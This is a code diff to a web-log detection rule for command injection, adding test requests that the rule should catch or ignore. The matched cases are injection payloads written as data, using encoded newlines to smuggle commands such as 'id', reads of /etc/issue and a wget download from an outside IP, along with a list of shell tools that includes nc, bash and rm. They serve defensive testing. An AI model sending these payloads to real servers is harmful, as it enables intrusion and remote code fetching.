@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -27,10 +28,24 @@ export default defineRule({
     'GET /ping?host=127.0.0.1%0Aid HTTP/1.1',
     'GET /ping?host=127.0.0.1%0a/bin/cat%20/etc/issue HTTP/1.1',
     'GET /ping?host=a%0d%0awget%20http://203.0.113.9/x HTTP/1.1',
+    ...each(
+      'GET /ping?host=127.0.0.1%0A{} HTTP/1.1',
+      `ls curl whoami uname ping sleep nslookup ifconfig ipconfig bash sh dir cd rm chmod echo netstat nc
+    python perl php`,
+    ),
+    'GET /ping?host=a%0d%0awget;//203.0.113.9/x HTTP/1.1',
+    'GET /ping?host=a%0d%0awget%20-a//203.0.113.9/x HTTP/1.1',
+    'GET /ping?host=a%0d%0awget%201//203.0.113.9/x HTTP/1.1',
+    'GET /127.0.0.1%0Aid HTTP/1.1',
+    { request: 'GET / HTTP/1.1', referrer: 'https://www.example.com/ping?host=127.0.0.1%0Aid' },
   ],
   misses: [
     'GET /note?text=first%0Acat+and+dog HTTP/1.1',
     'GET /note?text=a%0Aidea HTTP/1.1',
     'GET /note?text=a%0D%0ALocation HTTP/1.1',
+    {
+      message:
+        'upstream timed out, request: "GET /ping?host=127.0.0.1%0a/bin/cat%20/etc/issue HTTP/1.1"',
+    },
   ],
 })
